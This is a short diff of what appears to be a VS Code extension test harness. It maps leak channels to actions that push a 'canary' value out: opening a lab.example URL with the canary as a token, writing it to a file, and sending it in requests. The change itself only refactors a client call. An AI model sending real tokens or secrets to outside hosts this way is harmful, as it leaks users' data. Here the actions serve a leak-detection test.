@@ -53,10 +53,7 @@ const controls: Readonly<Record<Surface, (scene: Scene) => unknown>> = {
   external: () => vscode.env.openExternal(vscode.Uri.parse(`https://lab.example/?token=${canary}`)),
   file: () => vscode.workspace.fs.writeFile(vscode.Uri.file('/w/copy.txt'), new TextEncoder().encode(canary)),
   request: ({ account }) =>
-    account
-      .client()
-      .send({ method: 'GET', route: `/info/${canary}` as never })
-      .catch(() => undefined),
+    account.client.send({ method: 'GET', route: `/info/${canary}` as never }).catch(() => undefined),
   server: ({ services }) => services.client.sendRequest('mapper/samples', { uri: file.toString() }),
 };
 
